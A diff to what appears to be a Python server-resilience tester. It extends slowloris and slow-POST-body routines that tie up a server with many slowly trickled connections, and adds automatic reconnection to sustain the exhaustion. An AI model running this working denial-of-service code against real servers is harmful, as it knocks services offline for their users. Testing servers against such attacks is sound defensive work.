@@ -126,26 +126,45 @@ def _closing_summary(results: list[float | None], hold: float) -> dict[str, Any]
     }
 
 
-async def slowloris_headers(target: Target, count: int, hold: float, interval: float) -> Any:
+async def _slot(
+    target: Target, first: bytes, piece: bytes, interval: float, hold: float, reconnect: bool
+) -> list[float | None]:
+    """One attacker's place: trickle, and with `reconnect` open a new one each time the server
+    closes, until `hold` s have passed."""
+    results: list[float | None] = []
+    started = time.monotonic()
+    while (left := hold - (time.monotonic() - started)) > 0:
+        result = await _trickle(target, first, piece, interval=interval, hold=left)
+        results.append(result)
+        if result is None or not reconnect:
+            break
+        if result < 0.05:  # refused at once: do not spin
+            await asyncio.sleep(0.1)
+    return results
+
+
+async def _slots(
+    target: Target, count: int, first: bytes, piece: bytes, *options: Any
+) -> dict[str, Any]:
+    slots = await asyncio.gather(*(_slot(target, first, piece, *options) for _ in range(count)))
+    return _closing_summary([r for slot in slots for r in slot], options[1])
+
+
+async def slowloris_headers(
+    target: Target, count: int, hold: float, interval: float, reconnect: bool = False
+) -> Any:
     first = b"GET / HTTP/1.1\r\nHost: victim\r\n"
-    results = await asyncio.gather(
-        *(
-            _trickle(target, first, b"X-Slow-%d: a\r\n" % i, interval=interval, hold=hold)
-            for i in range(count)
-        )
-    )
-    return _closing_summary(list(results), hold)
+    return await _slots(target, count, first, b"X-Slow: a\r\n", interval, hold, reconnect)
 
 
-async def slow_body(target: Target, count: int, hold: float, interval: float, path: str) -> Any:
+async def slow_body(
+    target: Target, count: int, hold: float, interval: float, path: str, reconnect: bool = False
+) -> Any:
     first = (
         b"POST " + path.encode() + b" HTTP/1.1\r\nHost: victim\r\n"
         b"Content-Type: text/plain;charset=UTF-8\r\nContent-Length: 90000\r\n\r\n"
     )
-    results = await asyncio.gather(
-        *(_trickle(target, first, b"1", interval=interval, hold=hold) for _ in range(count))
-    )
-    return _closing_summary(list(results), hold)
+    return await _slots(target, count, first, b"1", interval, hold, reconnect)
 
 
 async def huge_headers(target: Target, limit: int, hold: float) -> Any:
